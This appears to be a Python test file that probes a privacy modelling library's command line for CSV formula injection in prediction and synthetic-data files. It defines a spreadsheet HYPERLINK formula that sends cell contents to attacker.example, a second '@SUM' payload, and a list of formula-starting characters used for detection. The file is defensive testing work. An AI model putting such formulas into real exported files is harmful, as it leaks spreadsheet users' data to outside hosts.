"""Formulas in CSV files that the command line writes.

Text that a spreadsheet program runs when the file is opened.
"""

import csv
from pathlib import Path

import numpy as np
from typer.testing import CliRunner

import reticent
from reticent.cli.main import app
from tests.attacks.harness import Outcome, attack

_RUN = '=HYPERLINK("http://attacker.example/?"&A1,"open")'


def _cells(out: str) -> list[str]:
    with open(out, newline="", encoding="utf-8") as file:
        return [cell for line in csv.reader(file) for cell in line]


def _outcome(out: str) -> Outcome:
    """Count the cells that begin like a formula, and are no numbers."""
    runs = []
    for cell in _cells(out):
        try:
            float(cell)
        except ValueError:
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                runs.append(cell)
    figure = f"{len(runs)} cells of {out} are run as formulas"
    if runs:
        figure += f", such as {runs[0][:28]}…"
    return Outcome(bool(runs), figure)


def _called(*words: str) -> None:
    done = CliRunner().invoke(app, list(words))
    assert done.exit_code == 0, done.output


@attack("7", "A class that is named like a formula is run from predictions.csv")
def labels() -> Outcome:
    bounds = reticent.Bounds(x={"age": (0, 100)}, classes={"ill": ["no", _RUN]})
    random = np.random.default_rng(0)
    x = random.uniform(0, 100, (500, 1))
    y = np.where(x[:, 0] > 50, _RUN, "no")
    model = reticent.GPClassifier(bounds=bounds, epsilon=10, delta=1e-6)
    import pandas as pd

    model.fit(pd.DataFrame({"age": x[:, 0], "ill": y}))
    model.save("m.reticent")
    Path("new.csv").write_text("age\n90\n95\n10\n")
    _called("predict", "m.reticent", "new.csv", "--out", "predictions.csv")
    return _outcome("predictions.csv")


@attack("7", "A column that is named like a formula is run from a file of synthetic records")
def columns() -> Outcome:
    import pandas as pd

    data = pd.DataFrame({_RUN: np.linspace(0, 1, 300), "@SUM(1+1)": np.linspace(0, 1, 300)})
    bounds = reticent.Bounds(x={_RUN: (0, 1), "@SUM(1+1)": (0, 1)})
    reticent.GaussianMixture(n_components=1, bounds=bounds, epsilon=5, delta=1e-6).fit(data).save(
        "m.reticent"
    )
    _called("sample", "m.reticent", "-n", "5", "--out", "synthetic.csv")
    return _outcome("synthetic.csv")
